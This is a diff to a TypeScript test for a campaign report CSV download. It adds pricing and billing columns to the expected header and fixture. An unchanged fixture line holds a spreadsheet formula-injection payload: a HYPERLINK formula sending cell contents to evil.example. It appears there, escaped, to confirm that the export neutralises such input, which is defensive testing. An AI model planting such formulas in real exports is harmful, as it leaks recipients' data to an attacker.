@@ -4,7 +4,7 @@ import { createTestApp, type TestApp } from './app.js';
 import { createCampaignFixture } from './report-fixtures.js';
 import { downloadGrantKey, signDownloadGrant } from '../src/reports/download-grant.js';
 
-const HEADER = 'phone,status,message_id,error_code,error_title,sent_at,delivered_at,read_at,failed_at,first_name,last_name';
+const HEADER = 'phone,status,message_id,error_code,error_title,sent_at,delivered_at,read_at,failed_at,first_name,last_name,pricing_category,pricing_model,pricing_type,billable';
 
 /** Buffers the whole body as text (supertest does not for text/csv). */
 function text(response: request.Response, callback: (error: Error | null, body: string) => void): void {
@@ -60,6 +60,10 @@ describe('GET /v1/campaigns/:id/report.csv', () => {
       failed_at: '2026-05-01T10:00:00.000Z',
       first_name: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
       last_name: 'Normal',
+      pricing_category: '',
+      pricing_model: '',
+      pricing_type: '',
+      billable: '',
     });
     expect(rows.slice(1, 7).map((row) => [row.first_name, row.last_name])).toEqual([
       ["'+1+1", "'-2"],
